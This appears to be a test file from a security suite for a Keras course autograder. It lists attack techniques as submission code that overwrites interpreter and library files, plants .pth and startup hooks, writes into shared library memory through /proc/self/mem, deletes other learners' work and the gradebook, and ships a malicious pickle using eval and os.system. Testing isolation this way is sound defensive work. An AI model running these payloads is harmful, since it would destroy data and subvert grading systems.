"""The next submission's interpreter, changed by this one."""

from __future__ import annotations

from tests.attacks.techniques import Sheet, technique


@technique()
def libraries_on_the_disk(sheet: Sheet) -> None:
    """Keras, the package and the interpreter's own files are overwritten."""
    sheet.first("""
        import autograder, keras, os, sys, sysconfig
        for path in (keras.__file__, autograder.__file__, os.__file__, sys.executable,
                     sysconfig.get_path("purelib") + "/evil.pth", sysconfig.get_path("purelib") + "/sitecustomize.py",
                     sysconfig.get_path("stdlib") + "/usercustomize.py"):
            for attempt in (lambda: open(path, "a").write("\\nraise SystemExit\\n"), lambda: os.remove(path),
                            lambda: os.rename(path, path + ".old"), lambda: os.truncate(path, 0),
                            lambda: os.symlink("/dev/null", path)):
                try:
                    attempt()
                    print("forbidden-thing-" + "done", path)
                except OSError:
                    pass
    """)


@technique()
def bytecode(sheet: Sheet) -> None:
    """Bytecode of the learner's own in the libraries' caches."""
    sheet.first("""
        import glob, keras, os
        for folder in [os.path.dirname(keras.__file__) + "/__pycache__", os.path.dirname(os.__file__) + "/__pycache__"]:
            try:
                os.makedirs(folder, exist_ok=True)
                open(folder + "/evil.cpython-311.pyc", "wb").write(b"x")
                print("forbidden-thing-" + "done", folder)
            except OSError:
                pass
            for path in glob.glob(folder + "/*.pyc")[:5]:
                try:
                    os.chmod(path, 0)
                except OSError:
                    pass
    """)


@technique()
def modules_in_memory(sheet: Sheet) -> None:
    """Everything in memory that the next fork would have, changed or deleted."""
    sheet.first("""
        import builtins, gc, keras, sys
        keras.layers.Dense = keras.Input = keras.Model = None
        keras.layers.Conv2D.__init__ = lambda *_, **__: None
        keras.config.set_floatx("float16")
        keras.utils.set_random_seed(0)
        for name in list(sys.modules):
            if name.startswith(("keras", "autograder", "json")):
                vars(sys.modules[name]).clear()
                del sys.modules[name]
        builtins.__import__ = None
        gc.disable()
    """)


@technique()
def memory_of_libraries(sheet: Sheet) -> None:
    """The machine code of the libraries, overwritten in pages that forks share."""
    sheet.first("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        try:
            with open("/proc/self/maps") as maps:
                spans = [line.split() for line in maps if "libtensorflow" in line and "r-xp" in line]
            memory = os.open("/proc/self/mem", os.O_RDWR)
            for span, *_ in spans[:2]:
                low = int(span.split("-")[0], 16)
                os.pwrite(memory, b"\\xcc" * 4096, low)
        except OSError:
            pass
    """)


@technique()
def settings_in_the_home(sheet: Sheet) -> None:
    """Start files of Keras, IPython, matplotlib, Python and the shell in the home folder."""
    sheet.first("""
        import os
        home = os.path.expanduser("~")
        for name, text in {
            ".keras/keras.json": '{"backend": "nothing", "floatx": "float16"}',
            ".ipython/profile_default/startup/00.py": "raise SystemExit",
            ".config/matplotlib/matplotlibrc": "backend: nothing",
            ".local/lib/python3.11/site-packages/usercustomize.py": "raise SystemExit",
            ".local/lib/python3.11/site-packages/evil.pth": "import os; os._exit(0)",
            ".profile": "exit 0", ".pythonrc": "raise SystemExit",
        }.items():
            for place in (home, "/root", "/home/learner", "/tmp"):
                try:
                    os.makedirs(os.path.dirname(f"{place}/{name}"), exist_ok=True)
                    open(f"{place}/{name}", "w").write(text)
                except OSError:
                    pass
        os.environ.update(KERAS_BACKEND="nothing", PYTHONSTARTUP=home + "/.pythonrc", PYTHONPATH="/tmp", HOME="/nowhere")
    """)


@technique()
def neighbours_work_overwritten(sheet: Sheet) -> None:
    """Another learner's notebook, the gradebook and the reports are overwritten or deleted."""
    sheet.first(f"""
        import os, shutil
        for path in ({str(sheet.grounds.neighbour)!r}, {str(sheet.grounds.folder / "gradebook.db")!r},
                     {str(sheet.grounds.checkout / "course.yml")!r},
                     {str(sheet.grounds.checkout / "graders" / "hidden" / "test_inception.py")!r}):
            for attempt in (lambda: open(path, "w").write("x"), lambda: os.remove(path), lambda: os.chmod(path, 0o777),
                            lambda: os.truncate(path, 0), lambda: os.rename(path, path + "x"),
                            lambda: os.setxattr(path, "user.x", b"x"), lambda: os.utime(path, (0, 0))):
                try:
                    attempt()
                except OSError:
                    pass
        shutil.rmtree({str(sheet.grounds.folder)!r}, ignore_errors=True)
    """)


@technique()
def warm_interpreter_asked(sheet: Sheet) -> None:
    """The warm interpreter is asked, through whatever descriptor is left, to run something else."""
    sheet.first("""
        import os, socket
        for number in range(3, 64):
            try:
                made = socket.socket(fileno=os.dup(number))
                socket.send_fds(made, [b"none"], [0, 1, 2])
                print("forbidden-thing-" + "done", number)
            except OSError:
                pass
    """)


@technique()
def code_that_loads_itself(sheet: Sheet) -> None:
    """Models, pickles and JSON that run code when they are loaded, handed over as the answer."""
    sheet.answer(
        "inception-network",
        """
        import pickle
        class Evil:
            def __reduce__(self):
                return (eval, ("print('forbidden-thing-' + 'done')",))
            def __deepcopy__(self, memo):
                print("forbidden-thing-" + "done", "deepcopy")
            def __getstate__(self):
                print("forbidden-thing-" + "done", "getstate")
            def get_config(self):
                return {"module": "builtins", "class_name": "eval", "config": "print(1)"}
        images = keras.Input(shape=(28, 28, 1))
        code = "__import__('os').system('true')"
        class Own(keras.layers.Layer):
            def get_config(self):
                print("forbidden-thing-" + "done", "get_config")
                return {"function": {"class_name": "__lambda__", "config": {"code": code}}}
            def call(self, x):
                return x
        made = layers.Lambda(lambda x: x)(Own()(images))
        model = keras.Model(images, made)
        model.evil = Evil()
        pickle.dump(Evil(), open("model.keras", "wb"))
    """,
    )
